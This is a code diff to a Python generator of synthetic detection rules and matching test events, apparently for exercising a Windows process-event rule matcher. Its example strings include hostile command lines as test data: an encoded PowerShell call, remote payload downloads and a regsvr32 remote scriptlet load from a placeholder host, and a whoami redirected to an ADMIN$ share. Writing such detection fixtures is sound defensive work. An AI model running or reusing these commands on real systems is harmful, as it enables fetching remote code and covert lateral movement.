@@ -120,6 +120,21 @@ def yara_re(r):
 # ---- criteria ----------------------------------------------------------------
 # A criterion: (field, kind, value, nocase); kind in equals/prefix/regex/range/ueq/bool.
 
+# A string each regex criterion matches, by pattern: what a hit event puts
+# in the field (computed from the token alone, so the random stream, and with
+# it every rule, is the same as without it).
+REGEX_EXAMPLE = {}
+
+
+def pick_regex(g, field, pats, examples, nocase):
+    """One of pats; nocase is a bool, or the probability of nocase (drawn after the pick)."""
+    k = g.r.choice(range(len(pats))) if len(pats) > 1 else 0
+    REGEX_EXAMPLE[pats[k]] = examples[k]
+    if not isinstance(nocase, bool):
+        nocase = g.r.random() < nocase
+    return (field, "regex", pats[k], nocase)
+
+
 def crit_string(g, i, kind, field):
     t = g.token(i)
     if field in ("image", "parent_image", "grandparent_image"):
@@ -133,7 +148,10 @@ def crit_string(g, i, kind, field):
             "\\\\%s[0-9]{1,3}\\.(exe|dll)$" % t,
             "^C:\\\\Users\\\\[^\\\\]+\\\\AppData\\\\.*\\\\%s\\.exe$" % t,
         ]
-        return (field, "regex", g.r.choice(pats), g.r.random() < 0.6)
+        ex = ["C:\\Windows\\System32\\%s.exe" % t, "C:\\Windows\\System32\\%s.exe" % t,
+              "C:\\Windows\\Temp\\%s42.dll" % t,
+              "C:\\Users\\jdoe\\AppData\\Local\\Temp\\%s.exe" % t]
+        return pick_regex(g, field, pats, ex, 0.6)
     if field in ("command_line", "parent_command_line"):
         if kind == "equals":
             return (field, "equals", "%s.exe %s %s" % (t, g.r.choice(FLAGS), g.word(3)), False)
@@ -147,22 +165,28 @@ def crit_string(g, i, kind, field):
             "\\\\\\\\127\\.0\\.0\\.1\\\\ADMIN\\$\\\\__%s[0-9.]+" % t,
             "%s\\.exe\"?\\s*$" % t,
         ]
-        return (field, "regex", g.r.choice(pats), g.r.random() < 0.6)
+        ex = ["powershell.exe -enc %sSQBFAFgAIAAoAE4AZQB3AC0A" % t,
+              "%s.exe -urlcache -f http://dl.example.net/a.bin" % t,
+              "regsvr32.exe /s /i:http://dl.example.net/x.sct %s.dll" % t,
+              "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__%s1700.5" % t,
+              "\"C:\\Tools\\%s.exe\"" % t]
+        return pick_regex(g, field, pats, ex, 0.6)
     if field == "original_file_name":
         if kind == "regex":
-            return (field, "regex", "^%s\\.(exe|dll)$" % t, True)
+            return pick_regex(g, field, ["^%s\\.(exe|dll)$" % t], [t + ".dll"], True)
         return (field, kind, t + (".exe" if kind == "equals" else ""), g.r.random() < 0.7)
     if field == "user":
         if kind == "regex":
-            return (field, "regex", "^CORP\\\\%s[0-9]*$" % t, True)
+            return pick_regex(g, field, ["^CORP\\\\%s[0-9]*$" % t], ["CORP\\%s7" % t], True)
         return (field, kind, "CORP\\" + t, True)
     if field == "signer":
         if kind == "regex":
-            return (field, "regex", "^%s (Ltd|Inc|LLC)$" % t.capitalize(), False)
+            return pick_regex(g, field, ["^%s (Ltd|Inc|LLC)$" % t.capitalize()],
+                              [t.capitalize() + " Inc"], False)
         return (field, kind, t.capitalize() + " Ltd", False)
     # current_directory
     if kind == "regex":
-        return (field, "regex", "\\\\%s\\\\$" % t, True)
+        return pick_regex(g, field, ["\\\\%s\\\\$" % t], ["C:\\Users\\%s\\" % t], True)
     return (field, kind, g.path_dir() + t + "\\", True)
 
 
@@ -319,7 +343,7 @@ def benign_event(g):
 
 
 def hit_event(g, crits):
-    """An event that satisfies every literal/prefix/int criterion of a rule."""
+    """An event that satisfies the criteria of a rule (regexes by their example)."""
     ev = benign_event(g)
     for f, kind, v, _ in crits:
         if kind == "equals":
@@ -332,6 +356,8 @@ def hit_event(g, crits):
             ev[f] = v
         elif kind == "bool":
             ev[f] = bool(v)
+        elif kind == "regex" and v in REGEX_EXAMPLE:
+            ev[f] = REGEX_EXAMPLE[v]
     return ev
 
 
